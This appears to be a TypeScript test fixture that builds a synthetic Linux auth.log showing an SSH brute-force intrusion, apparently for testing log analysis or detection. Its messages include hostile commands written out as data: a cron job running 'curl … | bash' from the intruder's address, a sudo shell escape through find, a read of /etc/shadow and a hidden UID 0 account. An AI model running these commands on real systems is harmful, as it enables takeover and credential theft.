/**
 * The fixture that is a log of Linux: `auth.log` of a web server, with cron's lines in it, as rsyslog
 * writes it today.
 */

/** One message, and when a program wrote it on 11 March 2025. */
interface Message {
  readonly clock: string;
  /** With its process number, where it writes one. */
  readonly tag: string;
  readonly text: string;
}

const HOST = "web03";
const INTRUDER = "203.0.113.66";

/** One line for each message, with ISO times: those without a year would not stay in theirs. */
function syslog(messages: readonly Message[]): string {
  return messages
    .map(({ clock, tag, text }) => `2025-03-11T${clock}+00:00 ${HOST} ${tag}: ${text}\n`)
    .join("");
}

function failedLogin(clock: string, pid: number, user: string, isKnown: boolean): Message[] {
  const tag = `sshd[${pid}]`;
  const rest = `${user} from ${INTRUDER} port ${40000 + pid}`;
  const [first, kind] = isKnown
    ? [
      "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= " +
      `rhost=${INTRUDER}  user=${user}`,
      "",
    ]
    : [`Invalid user ${rest}`, "invalid user "];
  return [
    { clock: `${clock}.101842`, tag, text: first },
    { clock: `${clock}.913077`, tag, text: `Failed password for ${kind}${rest} ssh2` },
  ];
}

function sudo(clock: string, user: string, command: string): Message {
  const text = `${user} : TTY=pts/1 ; PWD=/home/${user} ; USER=root ; COMMAND=${command}`;
  return { clock, tag: "sudo", text: `   ${text}` };
}

function cron(clock: string, pid: number, user: string, command: string): Message {
  return { clock, tag: `CRON[${pid}]`, text: `(${user}) CMD (${command})` };
}

/** Guessed passwords, a login as root, a second root, a shell through sudo, and a job that returns. */
export function linuxAuthLog(): string {
  const guesses = ["admin", "oracle", "test", "root", "git", "ubuntu", "root", "root"];
  return syslog([
    cron("10:17:01.120413", 901, "root", "   cd / && run-parts --report /etc/cron.hourly"),
    {
      clock: "10:20:44.310207",
      tag: "sshd[930]",
      text: "Accepted publickey for deploy from 10.20.30.5 port 51514 ssh2: ED25519 " +
        "SHA256:mVPwvezndPv/ARoIadVY98vAC0g+P/5633yTC4d/wXE",
    },
    {
      clock: "10:20:44.322840",
      tag: "sshd[930]",
      text: "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)",
    },
    sudo("10:20:59.048312", "deploy", "/usr/bin/apt-get update"),
    ...guesses.flatMap((user, at) =>
      failedLogin(`10:41:${String(10 + 3 * at)}`, 1000 + at, user, user === "root")
    ),
    {
      clock: "10:41:40.550176",
      tag: "sshd[1020]",
      text: `Accepted password for root from ${INTRUDER} port 41020 ssh2`,
    },
    {
      clock: "10:41:40.563911",
      tag: "sshd[1020]",
      text: "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)",
    },
    {
      clock: "10:42:15.201118",
      tag: "useradd[1044]",
      text: "new user: name=backupd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1",
    },
    {
      clock: "10:42:22.730025",
      tag: "usermod[1047]",
      text: "add 'support' to group 'sudo'",
    },
    {
      clock: "10:43:02.418820",
      tag: "sudo",
      text: "www-data : user NOT in sudoers ; TTY=unknown ; PWD=/var/www/html ; USER=root ; " +
        "COMMAND=/usr/bin/id",
    },
    sudo("10:43:31.000942", "support", "/usr/bin/find / -exec /bin/sh ;"),
    sudo("10:44:05.667213", "support", "/usr/bin/cat /etc/shadow"),
    {
      clock: "10:44:40.110054",
      tag: "crontab[1102]",
      text: "(www-data) REPLACE (www-data)",
    },
    cron(
      "10:45:01.208817",
      1110,
      "www-data",
      `curl -s http://${INTRUDER}/u.sh | bash`,
    ),
    cron("10:50:01.311040", 1131, "root", "/dev/shm/.k -q"),
    {
      clock: "10:51:12.009183",
      tag: "systemd-logind[512]",
      text: "Removed session 14.",
    },
  ]);
}
